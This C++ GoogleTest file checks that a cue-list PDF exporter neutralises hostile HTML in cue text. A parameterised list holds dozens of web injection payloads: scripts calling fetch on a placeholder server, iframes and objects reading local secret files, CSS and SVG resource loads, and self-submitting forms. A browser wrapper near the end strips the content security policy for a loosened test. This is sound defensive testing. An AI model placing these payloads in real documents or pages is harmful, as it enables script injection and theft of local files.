// SPDX-License-Identifier: GPL-3.0-only
// Cue lists come from strangers, and their texts reach the page as they stand.
#include "export/print/PrintSupport.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <regex>

using namespace ExportSupport;
using testing::HasSubstr;
using testing::Not;

namespace
{

/** A server on this machine that counts who comes. Whoever has connected waits in its queue until it looks. */
class CountingServer final
{
public:
    CountingServer()
    {
        sockaddr_in address {};
        address.sin_family = AF_INET;
        address.sin_addr.s_addr = htonl (INADDR_LOOPBACK);
        socklen_t length = sizeof (address);
        listener = ::socket (AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        EXPECT_EQ (::bind (listener, reinterpret_cast<sockaddr*> (&address), length), 0);
        EXPECT_EQ (::listen (listener, 100), 0);
        ::getsockname (listener, reinterpret_cast<sockaddr*> (&address), &length);
        port = ntohs (address.sin_port);
    }

    CountingServer (const CountingServer&) = delete;
    CountingServer& operator= (const CountingServer&) = delete;
    ~CountingServer() { ::close (listener); }

    std::string address() const { return "http://127.0.0.1:" + std::to_string (port); }

    int visitors() const
    {
        int number = 0;

        for (int visitor; (visitor = ::accept (listener, nullptr, nullptr)) >= 0; ::close (visitor))
            ++number;

        return number;
    }

    int port = 0;

private:
    int listener = -1;
};

/** Notes whether anybody opens a file. */
class WatchedFile final
{
public:
    explicit WatchedFile (const std::string& path)
    {
        EXPECT_GE (::inotify_add_watch (watch, path.c_str(), IN_OPEN | IN_ACCESS), 0);
    }

    WatchedFile (const WatchedFile&) = delete;
    WatchedFile& operator= (const WatchedFile&) = delete;
    ~WatchedFile() { ::close (watch); }

    bool wasOpened() const
    {
        pollfd waitedFor { watch, POLLIN, 0 };
        return ::poll (&waitedFor, 1, 0) > 0;
    }

private:
    int watch = ::inotify_init1 (IN_CLOEXEC | IN_NONBLOCK);
};

struct Attack
{
    const char* name;
    const char* text; ///< SERVER and SECRET stand for the addresses of a server and a file
};

void PrintTo (const Attack& attack, std::ostream* stream) { *stream << attack.name; }

class HostileCueTest : public PrintTest, public testing::WithParamInterface<Attack>
{
protected:
    HostileCueTest()
    {
        folder.write ("secret.html", "<p>stolen words</p>");
        folder.write ("secret.txt", "stolen words");
    }

    CountingServer server;
};

} // namespace

TEST_P (HostileCueTest, getsNothingOutAndNothingIn)
{
    const WatchedFile page ((folder.path / "secret.html").string());
    const WatchedFile words ((folder.path / "secret.txt").string());
    auto hostile = std::regex_replace (GetParam().text, std::regex ("SERVER"), server.address());
    hostile =
        std::regex_replace (hostile, std::regex ("SECRET"), "file://" + (folder.path / "secret").string());
    settings->events = events ({ { .cueNumber = "A1", .words = "Before" },
                                 { .cueNumber = "A2", .words = hostile },
                                 { .cueNumber = "A3", .words = "After" } });

    EXPECT_EQ (print(), "");
    const PrintedPDF printed (path());
    ASSERT_TRUE (printed.isValid());
    EXPECT_THAT (printed.text(), HasSubstr ("Before"));
    EXPECT_THAT (printed.text(), HasSubstr ("After"));
    EXPECT_THAT (printed.text(), Not (HasSubstr ("stolen")));
    EXPECT_THAT (printed.text(), Not (HasSubstr ("scripted")));
    EXPECT_EQ (server.visitors(), 0);
    EXPECT_FALSE (page.wasOpened());
    EXPECT_FALSE (words.wasOpened());
}

INSTANTIATE_TEST_SUITE_P (
    Attacks, HostileCueTest,
    testing::Values (
        Attack { "script", "<script>document.body.innerHTML = 'scripted'; fetch('SERVER')</script>" },
        Attack { "scriptFile", "<script src='SERVER/x.js'></script><script src='SECRET.html'></script>" },
        Attack { "scriptModule",
                 "<script type='module'>import 'SERVER/x.js'; document.write('scripted')</script>" },
        Attack { "handler", "<img src='x' onerror=\"document.body.innerHTML='scripted'\">" },
        Attack { "bodyHandler", "<body onload=\"document.body.innerHTML='scripted'\">" },
        Attack { "drawingHandler", "<svg onload=\"document.body.innerHTML='scripted'\"></svg>" },
        Attack { "addressOfScript",
                 "<iframe src=\"javascript:parent.document.body.innerHTML='scripted'\"></iframe>" },
        Attack { "frameOnAFile", "<iframe src='SECRET.html'></iframe><iframe src='SECRET.txt'></iframe>" },
        Attack { "frameset", "<frameset><frame src='SECRET.html'></frameset>" },
        Attack { "frameOnTheServer", "<iframe src='SERVER/'></iframe>" },
        Attack { "frameWithItsOwnText",
                 "<iframe srcdoc=\"<script>parent.document.body.innerHTML='scripted'</script>"
                 "<img src='SERVER/a.png'><iframe src='SECRET.txt'></iframe>\"></iframe>" },
        Attack {
            "frameInASandbox",
            "<iframe sandbox='allow-scripts' srcdoc=\"<img src='SERVER/a.png'><iframe src='SECRET.txt'></iframe>\"></iframe>" },
        Attack {
            "frameOfData",
            "<iframe src=\"data:text/html,<img src='SERVER/a.png'><script>document.write('scripted')</script>\"></iframe>" },
        Attack {
            "object",
            "<object data='SECRET.html'></object><object data='SERVER/a.pdf' type='application/pdf'></object>" },
        Attack { "embed", "<embed src='SECRET.txt'><embed src='SERVER/a.swf'>" },
        Attack {
            "image",
            "<img src='SERVER/a.png'><img srcset='SERVER/b.png 2x'><picture><source srcset='SERVER/c.png'><img></picture>" },
        Attack { "imageFromAFile",
                 "<img src='SECRET.txt'><img src='SECRET.html'><input type=image src='SECRET.txt'>" },
        Attack {
            "drawing",
            "<svg><image href='SERVER/a.png'/><use href='SERVER/b.svg#a'/><image href='SECRET.txt'/></svg>" },
        Attack { "styleSheet",
                 "<link rel=stylesheet href='SERVER/a.css'><link rel=stylesheet href='SECRET.txt'>" },
        Attack { "importedStyle", "<style>@import 'SERVER/a.css'; @import url(SECRET.txt);</style>" },
        Attack { "background",
                 "<p style='background:url(SECRET.txt)'>x</p><p style='background:url(SERVER/a.png)'>x</p>" },
        Attack {
            "font",
            "<style>@font-face{font-family:x;src:url(SERVER/a.woff2)}@font-face{font-family:y;src:url(SECRET.txt)}</style>"
            "<p style='font-family:x'>x</p><p style='font-family:y'>y</p>" },
        Attack {
            "connectionAhead",
            "<link rel=preconnect href='SERVER'><link rel=dns-prefetch href='SERVER'><link rel=prefetch href='SERVER/a'>"
            "<link rel=preload as=image href='SERVER/b'><link rel=prerender href='SERVER/c'><link rel=modulepreload href='SERVER/d'>"
            "<link rel=icon href='SERVER/e'><link rel=manifest href='SERVER/f'>" },
        Attack { "speculation",
                 "<script type='speculationrules'>{\"prefetch\":[{\"urls\":[\"SERVER/a\"]}]}</script>" },
        Attack {
            "media",
            "<video autoplay src='SERVER/a' poster='SERVER/b'></video><audio autoplay src='SECRET.txt'></audio>"
            "<video><source src='SERVER/c'><track default src='SERVER/d'></video>" },
        Attack { "refresh", "<meta http-equiv=refresh content='0;url=SERVER/'>" },
        Attack { "refreshToAFile", "<meta http-equiv=refresh content='0;url=SECRET.html'>" },
        Attack { "refreshToNothing", "<meta http-equiv=refresh content='0;url=about:blank'>" },
        Attack { "refreshForEver", "<meta http-equiv=refresh content='0'>" },
        Attack { "base", "<base href='SERVER/'><img src='a.png'><link rel=stylesheet href='a.css'>" },
        Attack { "form", "<form action='SERVER/'><input name=a autofocus><button>x</button></form>" },
        Attack { "markOfAPing",
                 "<a href='SECRET.html' ping='SERVER/'>x</a><a download href='SERVER/a'>y</a>" },
        Attack {
            "policyOfItsOwn",
            "<meta http-equiv='Content-Security-Policy' content=\"default-src *; img-src 'none'\"><img src='SERVER/a'>" },
        Attack {
            "reports",
            "<meta http-equiv='Content-Security-Policy-Report-Only' content=\"default-src 'none'; report-uri SERVER/\">" },
        Attack {
            "addressesInAStyle",
            "<style>p::before{content:url(SERVER/a)} p{cursor:url(SERVER/b),auto;list-style:url(SERVER/c);"
            "border-image:url(SERVER/d) 1;mask:url(SERVER/e);filter:url(SERVER/f#x);clip-path:url(SERVER/g#x);"
            "shape-outside:url(SERVER/h);background:image-set('SERVER/i' 1x)} @namespace 'SERVER/j';</style>"
            "<p>x</p>" },
        Attack { "styleOfALeadingSheet",
                 "<?xml-stylesheet href='SERVER/a.css'?><style>@import url('SECRET.txt')"
                 " supports(display:block) print;</style>" },
        Attack {
            "drawingInAnAddress",
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
            "<image href='SERVER/a.png'/><foreignObject><iframe src='SECRET.txt'/></foreignObject></svg>\">" },
        Attack { "drawingsParts",
                 "<svg><filter id=f><feImage href='SERVER/a.png'/></filter><rect width=9 height=9 "
                 "filter='url(#f)'/><script href='SERVER/b.js'/><set attributeName=href "
                 "to='SERVER/c.png'/><tref href='SECRET.txt'/></svg>" },
        Attack {
            "formThatSendsItself",
            "<form id=f action='SERVER/' method=post><input name=a value=b autofocus onfocus='f.submit()'>"
            "<button type=submit formaction='SERVER/x' autofocus>x</button></form>"
            "<iframe name=n></iframe><form target=n action='SERVER/y'><input type=image src='SERVER/z'></form>" },
        Attack { "otherFrames",
                 "<fencedframe src='SERVER/a'></fencedframe><portal src='SERVER/b'></portal>"
                 "<embed src='SERVER/c' type='text/html'><applet archive='SERVER/d'></applet>" },
        Attack { "unclosed", "<!-- <div><table><tr><td><p>"
                             "-->" }),
    [] (const auto& attack) { return std::string (attack.param.name); });

namespace
{

TEST_F (PrintTest, aFloodOfEndsTearsNoOtherCueAway)
{
    std::string flood;

    for (int i = 0; i < 5000; ++i)
        flood += "</table></div></p></body></html>";

    settings->events = events ({ { .cueNumber = "A1", .words = "Before" },
                                 { .cueNumber = "A2", .words = flood },
                                 { .cueNumber = "A3", .words = "After" } });
    EXPECT_EQ (print(), "");
    const PrintedPDF printed (path());
    EXPECT_THAT (printed.text(), HasSubstr ("Before"));
    EXPECT_THAT (printed.text(), HasSubstr ("After"));
}

TEST_F (PrintTest, anIconsNameOpensNoFile)
{
    folder.write ("pdf-export-character-icon.png", "stolen");
    const WatchedFile watched ((folder.path / "pdf-export-character-icon.png").string());
    EXPECT_EQ (printText ("<img src='file://" + folder.path.string() + "/pdf-export-character-icon.png'>"),
               "");
    EXPECT_TRUE (wasPrinted());
    EXPECT_FALSE (watched.wasOpened());
}

/** The server is within reach of this browser, and its pages have no policy: what is left is that requests are refused. */
class LooseBrowserTest : public PrintTest
{
protected:
    /** Orders to the browser, changed on their way, and a page that allows everything. */
    void useLooseBrowser (const std::string& change)
    {
        useBrowser (R"sh(
page='"url":"file://([^"]*)"'
exec 3< <(while IFS= read -r -d '' order; do order=${order//Content-Security-Policy/X-Nothing}
if [[ $order =~ $page ]]; then sed -i s/Content-Security-Policy/X-Nothing/ "${BASH_REMATCH[1]}"; fi; )sh"
                    + change + R"( printf '%s\0' "$order"; done <&3)
words=()
for word; do case $word in --proxy-*|--host-resolver-rules=*) ;; *) words+=("$word") ;; esac; done
exec $(command -v chromium-headless-shell || command -v chromium) "${words[@]}")");
    }

    std::string hostile() const
    {
        return "<img src='" + server.address() + "/a.png'><link rel=stylesheet href='" + server.address()
               + "/a.css'><iframe src='" + server.address() + "/'></iframe>";
    }

    CountingServer server;
};

TEST_F (LooseBrowserTest, aRequestIsRefusedWhereNothingElseWouldStopIt)
{
    useLooseBrowser ("");
    EXPECT_EQ (printText (hostile()), "");
    EXPECT_TRUE (wasPrinted());
    EXPECT_EQ (server.visitors(), 0);
}

TEST_F (LooseBrowserTest, andWouldArriveWereItNotRefused)
{
    patience = std::chrono::seconds (4);
    useLooseBrowser ("order=${order//Fetch.failRequest/Fetch.continueRequest};");
    EXPECT_EQ (printText (hostile()), "the browser doesn't answer") << "nor does the server";
    EXPECT_GT (server.visitors(), 0);
}

} // namespace
